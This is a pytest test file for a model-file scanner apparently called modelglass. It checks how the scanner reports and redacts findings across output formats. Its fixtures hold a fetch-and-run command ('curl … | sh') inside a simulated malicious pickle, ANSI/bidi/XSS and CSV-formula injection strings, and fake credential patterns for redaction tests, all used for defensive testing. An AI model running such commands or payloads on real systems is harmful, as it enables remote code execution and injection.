"""What was found in files, as text, Markdown, CSV and JSON."""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import jsonschema
import pytest

from modelglass.api import RENDERERS
from modelglass.page.redact import HIDDEN, redact
from modelglass.renderers._escape import cell_width
from modelglass.report import Finding, GlobalUse, Scan, ScannedFile

Golden = Callable[[str, str], None]
SCHEMA = Path(__file__).parents[2] / "docs" / "schema" / "scan-1.json"
SCAN = RENDERERS["scan"]


def finding(code: str, level: str = "info", text: str = "something", **more: Any) -> Finding:
    return Finding(**{"code": code, "level": level, "text": text, "file": "models/evil.pt", **more})


def use(name: str, kind: str = "core", **more: Any) -> GlobalUse:
    member = "archive/data.pkl"
    return GlobalUse(
        **{"name": name, "kind": kind, "file": "models/evil.pt", "member": member, "offset": 2, **more}
    )


CORE = (
    use("collections.OrderedDict", called=True),
    use("torch._utils._rebuild_tensor_v2", called=True, count=148, offset=60),
    use("torch.FloatStorage", count=148, offset=98),
)
PLAIN = ScannedFile(
    path="models/weights.pt",
    format="torch_zip",
    nbytes=102_400_000,
    read_nbytes=31_234,
    weights_only="accepts",
    globals=CORE,
    findings=(finding("zip.padding", text="the members are aligned", file="models/weights.pt"),),
)
TENSORS = ScannedFile(path="models/w.safetensors", format="safetensors", nbytes=4_008, read_nbytes=1_008)
EVIL = ScannedFile(
    path="models/evil.pt",
    format="torch_zip",
    nbytes=1_204,
    read_nbytes=700,
    weights_only="refuses",
    refusal="os.system is not among the globals it allows",
    globals=(
        *CORE,
        use("argparse.Namespace", "data", called=True, offset=410),
        use("ultralytics.nn.tasks.DetectionModel", "class", called=True, offset=200, package="ultralytics"),
        use("os.system", "call", called=True, offset=12, arguments="('curl -s https://example.org/x | sh',)"),
    ),
    findings=(
        finding("zip.padding", text="the members are aligned"),
        finding(
            "pickle.class",
            "notice",
            "loading imports 'ultralytics' and runs its code",
            member="archive/data.pkl",
            offset=200,
        ),
        finding(
            "pickle.call",
            "high",
            "loading calls os.system('curl -s https://example.org/x | sh')",
            member="archive/data.pkl",
            offset=12,
            details={"name": "os.system", "count": 1},
        ),
        finding("zip.overlap", "invalid", "two members lie at the same bytes", offset=1_024),
    ),
)
CUT = ScannedFile(
    path="models/cut.gguf",
    format="gguf",
    nbytes=20,
    read_nbytes=20,
    findings=(
        finding(
            "limit", "limit", "1,000,001 tensors are more than the limit 'tensors'", file="models/cut.gguf"
        ),
    ),
)
UNKNOWN = ScannedFile(path="models/notes.bin", format=None, nbytes=300, read_nbytes=300)
GONE = ScannedFile(
    path="models/gone.pt",
    format=None,
    nbytes=None,
    read_nbytes=0,
    findings=(finding("cannot-open", "invalid", "there is no such file", file="models/gone.pt"),),
)
MANY = Scan(files=(PLAIN, TENSORS, EVIL, CUT, UNKNOWN, GONE))
SCANS = {"many": MANY, "plain": Scan(files=(PLAIN,)), "evil": Scan(files=(EVIL,)), "none": Scan(files=())}


@pytest.mark.parametrize("width", [60, 100])
def test_several_files_as_text(width: int, golden: Golden) -> None:
    golden(f"text/scan-{width}.txt", SCAN["text"](MANY, width=width))


def test_one_ordinary_file_as_text(golden: Golden) -> None:
    golden("text/scan-ordinary.txt", SCAN["text"](Scan(files=(PLAIN,))))


def test_colours_as_text(golden: Golden) -> None:
    golden("text/scan-color.txt", SCAN["text"](Scan(files=(EVIL,)), color=True))


def test_markdown(golden: Golden) -> None:
    golden("markdown/scan.md", SCAN["markdown"](MANY))


def test_colours_change_nothing_else() -> None:
    painted = SCAN["text"](MANY, color=True)
    assert painted != SCAN["text"](MANY)
    assert re.sub(r"\x1b\[\d+m", "", painted) == SCAN["text"](MANY)


@pytest.mark.parametrize("width", [40, 50, 60, 70, 80, 100, 140, 200])
def test_lines_fit(width: int) -> None:
    text = SCAN["text"](Scan(files=(*MANY.files, *hostile().files)), width=width)
    assert max(map(cell_width, text.splitlines())) <= width


def test_findings_come_most_severe_first() -> None:
    levels = re.findall(r"^(\w+) \[", SCAN["text"](Scan(files=(EVIL,))), re.MULTILINE)
    assert levels == ["invalid", "high", "notice", "info"]


def test_nothing_found_is_said_of_the_bytes_read() -> None:
    for found in (Scan(files=(PLAIN,)), Scan(files=(PLAIN, TENSORS))):
        for text in (SCAN["text"](found), SCAN["markdown"](found)):
            assert "Found nothing that runs code in the" in text
    last = SCAN["text"](Scan(files=(PLAIN, TENSORS))).splitlines()[-1]
    assert last == "Found nothing that runs code in the 32,242 bytes read; 102,371,766 bytes not read."


def test_code_that_comes_along_is_named_with_it() -> None:
    file = replace(TENSORS, findings=(finding("code.torchscript"), finding("code.chat-template")))
    last = SCAN["text"](Scan(files=(file,)), width=200).splitlines()[-1]
    assert last.startswith("Found nothing that runs code in the 1,008 bytes read; 3,000 bytes not read.")
    assert last.endswith("Code that comes along, for later: code.chat-template, code.torchscript.")


CLASS_ONLY = replace(TENSORS, globals=(use("a.B", "class"),))


@pytest.mark.parametrize("file", [EVIL, CUT, UNKNOWN, GONE, CLASS_ONLY], ids=lambda file: file.path)
def test_nothing_found_is_not_said_of_files_that_call_or_were_not_understood(file: ScannedFile) -> None:
    for files in ((file,), (PLAIN, file)):
        for render in (SCAN["text"], SCAN["markdown"]):
            assert "Found nothing" not in render(Scan(files=files))


def test_no_file_is_not_a_clean_result() -> None:
    empty = Scan(files=())
    assert SCAN["text"](empty) == "Nothing was read: there was no file to scan.\n"
    assert "Nothing was read" in SCAN["markdown"](empty)


@pytest.mark.parametrize("name", SCANS)
@pytest.mark.parametrize("format_", SCAN)
def test_no_output_says_safe(name: str, format_: str) -> None:
    assert not re.search(r"(?<!un)\bsafe\b|\bclean\b|\btrusted\b", SCAN[format_](SCANS[name]), re.IGNORECASE)


def test_ordinary_files_of_a_folder_take_a_line_each() -> None:
    files = tuple(replace(PLAIN, path=f"models/{index}.pt") for index in range(50))
    assert len(SCAN["text"](Scan(files=files)).splitlines()) == 52
    assert len(SCAN["text"](Scan(files=(PLAIN,))).splitlines()) > 3


def test_long_lists_are_cut_and_say_so() -> None:
    file = replace(
        EVIL,
        globals=tuple(use(f"os.f{index}", "call") for index in range(1_000)),
        findings=tuple(finding("pickle.call", "high", f"call {index}") for index in range(1_000)),
    )
    for text in (SCAN["text"](Scan(files=(file,))), SCAN["markdown"](Scan(files=(file,)))):
        assert "and 900 more findings: --format json has all" in text
        assert "and 900 more globals: --format json has all" in text
        assert "call 999" not in text
    assert "os.f999" in SCAN["json"](Scan(files=(file,)))


def test_another_file_than_the_one_scanned_is_named() -> None:
    file = replace(EVIL, findings=(finding("index.missing", "invalid", file="models/shard-2.bin"),))
    assert "[index.missing] models/shard-2.bin: something" in SCAN["text"](Scan(files=(file,)))


@pytest.mark.parametrize("name", SCANS)
def test_json_follows_its_schema_and_has_every_field(name: str) -> None:
    text = SCAN["json"](SCANS[name])
    document = json.loads(text)
    jsonschema.validate(document, json.loads(SCHEMA.read_text()))
    assert (document["format"], document["version"]) == ("modelglass-scan", 1)
    assert text == SCAN["json"](SCANS[name])
    for shown, file in zip(document["files"], SCANS[name].files, strict=True):
        assert set(shown) == set(ScannedFile.__slots__)
        assert [each["offset"] for each in shown["globals"]] == [each.offset for each in file.globals]
        assert [each["details"] for each in shown["findings"]] == [each.details for each in file.findings]


def test_json_has_values_that_json_has_not() -> None:
    values = {"nan": float("nan"), "inf": float("-inf"), "long": 1 << 20_000, "tuple": (1, None)}
    expected = {"nan": "nan", "inf": "-inf", "long": hex(1 << 20_000), "tuple": [1, None]}
    file = replace(EVIL, findings=(finding("a.b", details=values),))
    for text in (SCAN["json"](Scan(files=(file,))), SCAN["sarif"](Scan(files=(file,)))):
        assert expected in _values(json.loads(text))


def _values(document: Any) -> Iterator[Any]:
    """The document and all that is in it."""
    yield document
    items = (
        document.values() if isinstance(document, dict) else document if isinstance(document, list) else ()
    )
    for item in items:
        yield from _values(item)


def test_csv_has_a_line_for_each_file_finding_and_global() -> None:
    text = SCAN["csv"](MANY)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [row["record"] for row in rows].count("file") == 6
    assert [row["record"] for row in rows].count("finding") == len(MANY.findings)
    assert [row["record"] for row in rows].count("global") == sum(len(file.globals) for file in MANY.files)
    call = next(row for row in rows if row["name"] == "os.system")
    assert (call["called"], call["offset"], call["kind"]) == ("called", "12", "call")
    assert all(line.startswith('"') and line.endswith('"') for line in text.splitlines())


HOSTILE = {
    "ansi": "\x1b[2J\x1b[31mred",
    "osc": "\x1b]8;;https://example.org\x07click\x1b]8;;\x07",
    "c1": "\x9b31m",
    "bidi": "\u202egnp.exe\u2066",
    "zero width": "a\u200bb\u200d\ufeff\u2060",
    "fillers": "a\u3164b\u115f",
    "nul": "a\0b",
    "lines": "a\r\nb\nc\rd\u2028e\u2029f\x85g\x0bh\x0ci",
    "delete": "a\x7f\x08b",
    "surrogate": "a\ud800b\udcff",
    "tags": "a\U000e0041b",
    "huge": "x" * 100_000,
    "huge escapes": "\x1b" * 100_000,
    "wide": "漢" * 500,
    "formula": "=cmd|'/c calc'!A0",
    "script": "<script>alert(1)</script><!-- <img src=x onerror=alert(1)>",
    "fence": "```\n# heading\n```",
    "pipes": "a|b|c \\| d",
    "links": "[click](https://example.org) ![x](http://example.org) www.example.org @someone",
    "entities": "&lt;script&gt;",
    "empty": "",
    "quotes": 'a"b\'c,"d"',
}


def hostile(*texts: str) -> Scan:
    """Every place that takes a text from a file, with every text."""
    files = []
    for text in texts or HOSTILE.values():
        found = finding(
            "a.b", "high", text, file=text, member=text, offset=3, details={text: [text, {text: text}]}
        )
        each = use(text, "call", file=text, member=text, arguments=text, package=text)
        files.append(
            ScannedFile(
                path=text,
                format="torch_zip",
                nbytes=5,
                read_nbytes=5,
                weights_only="refuses",
                refusal=text,
                globals=(each, replace(each, kind="core"), replace(each, kind="data", member=None)),
                findings=(found, replace(found, member=None, level="info")),
            )
        )
        files.append(ScannedFile(path=text, format="gguf", nbytes=5, read_nbytes=5))
    return Scan(files=tuple(files))


HIDDEN_CATEGORIES = {"Cc", "Cf", "Cs", "Co", "Zl", "Zp"}


@pytest.mark.slow
@pytest.mark.parametrize("redact", [False, True])
@pytest.mark.parametrize("format_", SCAN)
def test_hostile_texts_are_shown_and_not_obeyed(format_: str, redact: bool) -> None:
    text = SCAN[format_](hostile(), redact=redact)
    text.encode("utf-8")
    strange = {char for char in text if unicodedata.category(char) in HIDDEN_CATEGORIES} - {"\n"}
    assert not strange
    assert strange.isdisjoint("\u3164\u115f")
    if format_ in ("json", "sarif"):
        assert text.isascii()


def test_json_keeps_hostile_texts_exactly() -> None:
    document = json.loads(SCAN["json"](hostile()))
    assert [file["path"] for file in document["files"][::2]] == list(HOSTILE.values())


@pytest.mark.parametrize("format_", ["text", "markdown", "sarif"])
def test_huge_texts_are_cut(format_: str) -> None:
    text = SCAN[format_](hostile(HOSTILE["huge"], HOSTILE["huge escapes"]))
    if format_ != "sarif":  # which names the file in full
        assert len(text) < 100_000
    assert "…" in text or "\\u2026" in text


def test_markdown_of_hostile_texts_has_no_markup() -> None:
    text = SCAN["markdown"](hostile())
    assert not re.search(r"<[a-z!/]|(?<!\\)`|(?<!\\)\[|://|www\.|@", text)
    for table in re.findall(r"(?:^\|.*\n)+", text, re.MULTILINE):
        assert len({len(re.findall(r"(?<!\\)\|", line)) for line in table.splitlines()}) == 1


def test_csv_of_hostile_texts_has_no_formula() -> None:
    starts = ["=1", "+1", "-1", "@A", "\t=1", "\r=1", "\n=1", "\uff1d1"]
    rows = list(csv.reader(io.StringIO(SCAN["csv"](hostile(*starts, *HOSTILE.values())))))
    assert len({len(row) for row in rows}) == 1
    cells = [cell for row in rows for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d")) for cell in cells)
    assert "'=cmd|'/c calc'!A0" in cells
    assert max(map(len, cells)) < 32_767


PRIVATE = {
    "/home/alice/runs/7": f"/home/{HIDDEN}/runs/7",
    "('/home/alice',)": f"('/home/{HIDDEN}',)",
    "/Users/Alice Doe/runs": f"/Users/{HIDDEN}/runs",
    r"C:\Users\Alice Doe\runs": rf"C:\Users\{HIDDEN}\runs",
    r"'C:\\Users\\alice\\runs'": rf"'C:\\Users\\{HIDDEN}\\runs'",
    "C:/Users/alice": f"C:/Users/{HIDDEN}",
    "file:///home/alice/x and /home/bob/y": f"file:///home/{HIDDEN}/x and /home/{HIDDEN}/y",
    "token=hf_" + "aB3" * 12: f"token={HIDDEN}",
    "sk-proj-" + "aB3_" * 12: HIDDEN,
    "AKIA" + "A1B2" * 4: HIDDEN,
    "'ghp_" + "aB3" * 12 + "'": f"'{HIDDEN}'",
    "github_pat_" + "aB3_" * 12: HIDDEN,
    "hf_aBcD1234…": f"{HIDDEN}…",
    "https://alice:secret@example.org/x": f"https://{HIDDEN}@example.org/x",
}


@pytest.mark.parametrize("text", PRIVATE)
def test_secrets_and_owners_are_redacted(text: str) -> None:
    assert redact(text) == PRIVATE[text]
    assert redact(PRIVATE[text]) == PRIVATE[text]


@pytest.mark.parametrize(
    "text", ["hf_transformers.models", "task-sk-1", "/srv/home.txt", "risk-" + "a" * 30, "a/b/c", "AKIA", ""]
)
def test_what_only_looks_alike_stays(text: str) -> None:
    assert redact(text) == text


@pytest.mark.parametrize("format_", SCAN)
def test_redacted_outputs_hold_no_secret_anywhere(format_: str) -> None:
    secret, owner = "hf_" + "aB3" * 12, "/home/alice/runs"
    found = hostile(f"{secret} {owner}")
    assert "aB3aB3" in SCAN[format_](found)
    shown = SCAN[format_](found, redact=True)
    assert "aB3aB3" not in shown
    assert "alice" not in shown
    assert "redacted" in shown


def test_keys_that_become_alike_stay_apart() -> None:
    details = {"/home/alice/x": 1, "/home/bob/x": 2}
    file = replace(EVIL, findings=(finding("a.b", details=details),))
    document = json.loads(SCAN["json"](Scan(files=(file,)), redact=True))
    assert sorted(document["files"][0]["findings"][0]["details"].values()) == [1, 2]


def test_redacting_takes_time_in_proportion_to_the_text() -> None:
    for text in ("/" * 200_000, "/home/" * 40_000, "sk-" * 70_000, "://a:" * 40_000, "/home" + "/" * 200_000):
        assert redact(text) is not None
